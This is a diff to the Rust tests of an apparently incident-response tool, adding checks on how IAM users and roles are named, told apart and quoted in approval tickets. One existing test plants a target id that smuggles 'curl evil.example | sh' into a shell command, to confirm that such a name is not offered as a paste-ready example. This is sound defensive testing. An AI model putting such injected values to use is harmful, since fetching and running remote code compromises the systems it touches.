@@ -3,13 +3,16 @@
 use firebreak::answer::{Answer, Decided, Targets};
 use firebreak::containment::Containment;
 use firebreak::decision::{Decision, Mode};
+use firebreak::ids::AccountId;
 use firebreak::incident::{Incident, IncidentStatus};
+use firebreak::naming::Named;
 use firebreak::notice::{NoticeKind, mail, notice, ticket};
 use firebreak::plan::{Circumstances, plan_json};
 use firebreak::policy::Policy;
 use firebreak::receipt::{Receipt, Status};
 use firebreak::report::Report;
 use firebreak::review::Takes;
+use firebreak::target::TargetKind;
 use jiff::Timestamp;
 
 const AT: Timestamp = Timestamp::constant(1_795_000_000, 0);
@@ -115,6 +118,51 @@ fn what_others_use_is_approved_by_its_name_and_by_nothing_else() {
 }
 
 #[test]
+fn a_name_that_others_have_too_does_not_have_done_what_hits_others() {
+    let mut incident = three();
+    let mut role = incident.decisions[1].clone();
+    (role.target.kind, role.only_by_name) = (TargetKind::IamRole, true);
+    incident.decisions.push(role.clone());
+    let bob = only(&["bob"]);
+    // As an earlier version recorded it.
+    let report = Report::default();
+    let kinds: Vec<TargetKind> = report.approvable(&incident, Some(0), &bob).map(|decision| decision.target.kind).collect();
+    assert_eq!(kinds, [TargetKind::IamUser]);
+    let own = incident.name_of(&role.target);
+    assert_eq!((own.as_str(), approvable(&incident, &only(&[&own]))), ("IAM role bob", vec!["bob".to_owned()]));
+    let body = mail(&ticket(&incident, &Report::default(), 1)).body;
+    let code = firebreak::revision::code(&incident.shown());
+    assert!(body.contains(&format!("--shown {code} --only=\"IAM role bob\" --comment")), "{body}");
+    // Nothing that is decided later takes an answer's meaning away.
+    incident.decisions[1].since = 1;
+    assert_eq!(approvable(&incident, &bob), ["bob"]);
+}
+
+#[test]
+fn a_name_begins_with_account_and_region_where_two_accounts_share_the_whole_name() {
+    let mut incident = three();
+    let mut other = incident.decisions[0].clone();
+    other.target.account = AccountId::parse("999988887777").expect("an account");
+    incident.decisions.push(other.clone());
+    let own = incident.name_of(&other.target);
+    assert_eq!(own, format!("999988887777/{}/IAM user alice", other.target.region.as_str()));
+    assert_eq!(incident.named(&own), Named::One(&other.target));
+    assert!(matches!(incident.named("IAM user alice"), Named::Several(names) if names.len() == 2 && names.contains(&own)));
+    assert_eq!((incident.named("mallory"), incident.name_of(&incident.decisions[1].target).as_str()), (Named::Nobody, "bob"));
+    // The Region of an IAM user is that of whichever finding named it.
+    assert!(only(&["999988887777/us-east-1/IAM user alice"]).includes(&other.target));
+    // Two names that are printed alike are told apart by their mark.
+    for (at, name) in [(0, "eve\u{200b}"), (3, "eve\u{200c}")] {
+        let target = &mut incident.decisions[at].target;
+        (target.kind, target.id) = (TargetKind::IdentityCenterUser, name.to_owned());
+    }
+    for at in [0, 3] {
+        let target = &incident.decisions[at].target;
+        assert_eq!(incident.named(&incident.name_of(target)), Named::One(target));
+    }
+}
+
+#[test]
 fn what_is_decided_anew_about_a_settled_target_is_asked_and_what_is_not_stays_settled() {
     let kept = settled(&three(), &says(Answer::Keep, Targets::default()));
     let mut raised = kept.clone();
@@ -156,7 +204,7 @@ fn the_next_ticket_asks_about_the_rest_and_says_who_answered_what() {
     let incident = three();
     let report = Report { gated: vec![receipt(&incident, "bob", Status::Contained)], ..Report::default() };
     let first = mail(&ticket(&incident, &Report::default(), 1));
-    assert!(first.body.contains("--only \"IAM user carol\""), "{}", first.body);
+    assert!(first.body.contains("--only=\"IAM user carol\""), "{}", first.body);
     let one = says(Answer::Approve, only(&["bob"]));
     let after = settled(&incident, &one);
     let closed = mail(&notice(NoticeKind::Closed, &incident, &report, Some(&one), 1));
@@ -180,7 +228,7 @@ fn a_name_that_a_shell_would_read_is_no_example_to_paste() {
     let mut incident = three();
     "carol\"; curl evil.example | sh; \"".clone_into(&mut incident.decisions[2].target.id);
     let body = mail(&ticket(&incident, &Report::default(), 1)).body;
-    assert!(body.contains("--only \"IAM user bob\""), "{body}");
+    assert!(body.contains("--only=\"IAM user bob\""), "{body}");
 }
 
 #[test]
